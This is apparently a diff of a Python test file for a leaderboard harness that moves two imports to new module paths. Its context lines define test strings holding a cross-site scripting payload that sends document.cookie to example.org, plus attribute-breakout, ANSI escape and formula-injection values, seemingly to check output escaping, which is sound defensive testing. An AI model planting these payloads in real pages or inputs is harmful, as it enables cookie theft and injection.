@@ -17,11 +17,11 @@ from small_boards import board_of
 from small_runs import made, rewrite
 
 from core_harness.cli import cli
-from core_harness.cli.leaderboard_tables import print_board
+from core_harness.cli.output.leaderboard_tables import print_board
 from core_harness.errors import RunError
 from core_harness.leaderboard import Board, write_site
 from core_harness.leaderboard.exports import as_dict
-from core_harness.runs import Run, open_run
+from core_harness.runs.folder import Run, open_run
 
 SCRIPT = "<script>fetch('http://example.org/'+document.cookie)</script>"
 HOSTILE = f"\"'><img src=x onerror=alert(1)>{SCRIPT}\x1b[31m|=cmd()"
